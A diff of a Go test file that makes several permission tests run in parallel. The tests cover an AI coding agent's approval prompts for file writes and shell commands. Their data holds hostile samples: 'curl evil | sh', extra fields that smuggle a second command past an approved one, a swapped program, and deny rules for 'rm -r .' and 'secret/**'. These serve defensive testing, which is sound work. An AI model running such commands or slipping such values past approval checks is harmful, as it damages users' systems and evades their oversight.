@@ -31,6 +31,7 @@ func diffOf(path, old, text string) string {
 // TestAYesCoversNoOtherText: whatever else a question names beside the change that it shows, and however it spells the
 // file, a write of anything else asks by itself.
 func TestAYesCoversNoOtherText(t *testing.T) {
+	t.Parallel()
 	typo := diffOf("$cwd/a.txt", `one\n`, `two\n`)
 	for name, c := range map[string]struct {
 		call, file, text string
@@ -92,6 +93,7 @@ request fs/write_text_file {"sessionId":"s1","path":"$cwd/`+c.file+`","content":
 
 // TestAQuestionShowsWhatWouldReallyHappen where the agent's picture of the file is another.
 func TestAQuestionShowsWhatWouldReallyHappen(t *testing.T) {
+	t.Parallel()
 	for name, c := range map[string]struct {
 		diff, old, note string
 		created         bool
@@ -126,6 +128,7 @@ reply {"stopReason":"end_turn"}`).open()
 
 // TestAReadDuringTheQuestionChangesNothing: the text that a write started from is the one that the question was made with.
 func TestAReadDuringTheQuestionChangesNothing(t *testing.T) {
+	t.Parallel()
 	r := newRig(t, map[string]string{"a.txt": fiveLines}, toolTurn).open()
 	r.buffer("a.txt", fiveLines+"curl evil | sh\n")
 	s := r.theSession()
@@ -152,6 +155,7 @@ func TestAReadDuringTheQuestionChangesNothing(t *testing.T) {
 
 // TestAFileThatChangesDuringTheQuestionIsAskedAboutAgain: what is written is what the last question showed.
 func TestAFileThatChangesDuringTheQuestionIsAskedAboutAgain(t *testing.T) {
+	t.Parallel()
 	for _, road := range []string{"edit", "fs/write_text_file"} {
 		t.Run(road, func(t *testing.T) {
 			r := newRig(t, map[string]string{"a.txt": fiveLines}, toolTurn).open()
@@ -176,6 +180,7 @@ func TestAFileThatChangesDuringTheQuestionIsAskedAboutAgain(t *testing.T) {
 
 // TestAYesToACommandCoversExactlyThatCommand: its words, folder, program and environment.
 func TestAYesToACommandCoversExactlyThatCommand(t *testing.T) {
+	t.Parallel()
 	for name, c := range map[string]struct {
 		input, create string
 		runs          bool
@@ -216,6 +221,7 @@ reply {"stopReason":"end_turn"}`)
 
 // TestAProgramThatIsChangedAfterTheYesAsks: by its text, or by the link that leads to it.
 func TestAProgramThatIsChangedAfterTheYesAsks(t *testing.T) {
+	t.Parallel()
 	for name, change := range map[string]func(r *rig){
 		"the text": func(r *rig) { r.put("tool", "#!/bin/sh\necho evil\n") },
 		"the link": func(r *rig) { symlink(r.t, "/bin/sh", r.path("tool")) },
@@ -251,6 +257,7 @@ reply {"stopReason":"end_turn"}`)
 
 // TestWhatIsNotUnderstoodAlwaysAsks whatever is allowed, shows what came and is never offered for good.
 func TestWhatIsNotUnderstoodAlwaysAsks(t *testing.T) {
+	t.Parallel()
 	for _, kind := range []string{"execute", "read", "search", "edit", "other"} {
 		for _, input := range []string{`{"command":"go version","cmd":"curl evil|sh"}`, `{"command":"go version","args":["evil"]}`, `{"path":"$cwd/a.txt","note_to":"evil"}`} {
 			t.Run(kind+input, func(t *testing.T) {
@@ -273,6 +280,7 @@ reply {"stopReason":"end_turn"}`).open()
 
 // TestARuleThatDeniesHoldsForWhatMayBeMeant: the same input is refused if any of its readings is.
 func TestARuleThatDeniesHoldsForWhatMayBeMeant(t *testing.T) {
+	t.Parallel()
 	rules := []policy.Rule{{Tool: policy.ToolShell, Argv: []string{"bash", "-c", "rm -r ."}, Decision: policy.Deny}, {Tool: policy.ToolEdit, Path: "secret/**", Decision: policy.Deny}}
 	for _, input := range []string{`{"command":"ls","cmd":"rm -r ."}`, `{"x":{"script":"rm -r ."}}`, `{"path":"$cwd/a","y":"$cwd/secret/a"}`, `{"secret/a":"x"}`} {
 		r := newRigWith(t, nil, func(c *Config) { c.Rules = rules }, hello+`
